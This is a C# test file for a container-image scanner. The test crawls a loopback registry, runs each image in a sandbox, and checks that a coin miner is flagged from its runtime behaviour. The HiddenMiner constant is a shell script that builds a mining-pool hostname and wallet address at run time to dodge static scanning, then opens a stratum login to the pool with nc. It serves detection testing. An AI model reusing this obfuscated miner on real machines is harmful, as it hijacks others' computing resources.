using System.Text.Json;
using Drydock.Analysis.Content;
using Drydock.Crawl;
using Drydock.Detection.Malware;
using Drydock.Population;
using Drydock.Project;
using Drydock.Reporting;
using Drydock.Tests.Cli;
using Drydock.Tests.Fixtures;

namespace Drydock.Tests.Sandbox;

/// <summary><c>drydock crawl --sandbox</c> on a loopback registry: each crawled image also runs in the sandbox, the stored
/// report carries its behaviour, a miner that only shows itself when it runs is judged by it, and <c>stats</c> counts it.</summary>
[Collection(SandboxCollection.Name)]
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class CrawlSandboxTests : IDisposable
{
    // Nothing static to find: the pool's name and the wallet are put together only when the script runs.
    private const string HiddenMiner = """
        d=pool.support; d="${d}xmr.com"
        addr=$(nslookup "$d" 2>/dev/null | awk '/^Address/ { a = $NF } END { print a }')
        w=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4; w="${w}fhdUyZijBGUicoD"
        printf '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"%s","pass":"x","agent":"XMRig/6.21.0"}}\n' "$w" | nc -w 3 "$addr" 3333
        """;

    private readonly string _dir = RepoPaths.Scratch("crawl-sandbox");
    private readonly OwnWorkDirectory _work = new();

    public void Dispose() => _work.Dispose();

    [RuncFact]
    public async Task Crawl_with_sandbox_stores_the_behaviour_and_the_verdict_and_stats_counts_the_miner()
    {
        await using var registry = await RegistryServer.StartAsync(RegistryAuthMode.None);
        await registry.PushAsync(await UmociImage.BuildAsync(Path.Join(_dir, "miner"), HiddenMiner), "apps/miner:1");
        await registry.PushAsync(await UmociImage.BuildAsync(Path.Join(_dir, "plain"), "echo hello\necho note > /tmp/note.txt\n"), "apps/plain:1");
        var db = Path.Join(_dir, "crawl.db");

        var crawl = await CliRunner.InProcessAsync("crawl", $"registry:{registry.Host}", "--db", db, "--cache-dir", Path.Join(_dir, "cache"),
            "--scanners", "malware", "--parallel", "2", "-q", "--sandbox", "--sandbox-timeout", "30s", "--sandbox-work-dir", _work.Path);
        Assert.True(crawl.ExitCode == 0, crawl.Stdout + crawl.Stderr);

        var reports = await StoredReportsAsync(db);
        Assert.Equal(["apps/miner", "apps/plain"], reports.Keys.Order(StringComparer.Ordinal));
        var miner = reports["apps/miner"];
        Assert.NotNull(miner.Behaviour);
        Assert.Contains("sandbox", miner.Scanners);
        Assert.Contains(miner.Behaviour.NetworkActivity!.StratumLogins, l => l.Port == 3333 && l.Login != null && l.Login.EndsWith("fhdUyZijBGUicoD", StringComparison.Ordinal));
        Assert.Equal(VerdictKind.Malicious, miner.Verdict!.Verdict);
        // Judged by what it did: every malware finding comes from the run.
        Assert.NotEmpty(miner.Malware);
        Assert.All(miner.Malware, m => Assert.StartsWith("sandbox", m.Source, StringComparison.Ordinal));
        Assert.Contains(miner.Malware, m => m.Category == ThreatCategory.CoinMiner);

        var plain = reports["apps/plain"];
        Assert.NotNull(plain.Behaviour);
        Assert.Equal(VerdictKind.Clean, plain.Behaviour.Verdict);
        Assert.Contains("hello", plain.Behaviour.Stdout);
        Assert.Equal(VerdictKind.Clean, plain.Verdict!.Verdict);

        var stats = await CliRunner.InProcessAsync("stats", "--db", db, "--format", "json");
        Assert.True(stats.ExitCode == 0, stats.Stderr);
        var population = JsonSerializer.Deserialize(stats.Stdout, PopulationJsonContext.Default.PopulationStats)!;
        Assert.Equal(2, population.Images);
        Assert.Equal(1, population.Harmful.Total);
        Assert.Equal(new Dictionary<string, int> { ["coin-miner"] = 1 }, population.Harmful.ByCategory);

        // Every run cleaned up after itself.
        Assert.Empty(_work.Runs());
        Assert.Empty(_work.Containers());
        Assert.False(_work.HasMounts());
    }

    private static async Task<Dictionary<string, ScanReport>> StoredReportsAsync(string db)
    {
        await using var database = await ProjectDatabase.OpenAsync(ProjectDatabaseLocation.ForSqlite(db), CancellationToken.None);
        await using var connection = await database.OpenConnectionAsync(CancellationToken.None);
        await using var command = SqlCommands.Command(connection, null, "SELECT reference, report_gzip FROM crawl_images");
        await using var reader = await command.ExecuteReaderAsync();
        var reports = new Dictionary<string, ScanReport>(StringComparer.Ordinal);
        while (await reader.ReadAsync())
        {
            var reference = reader.GetString(0);
            reports[reference.Contains("/apps/miner", StringComparison.Ordinal) ? "apps/miner" : reference.Contains("/apps/plain", StringComparison.Ordinal) ? "apps/plain" : reference]
                = CrawlImageSummary.Decompress((byte[])reader.GetValue(1));
        }

        return reports;
    }
}
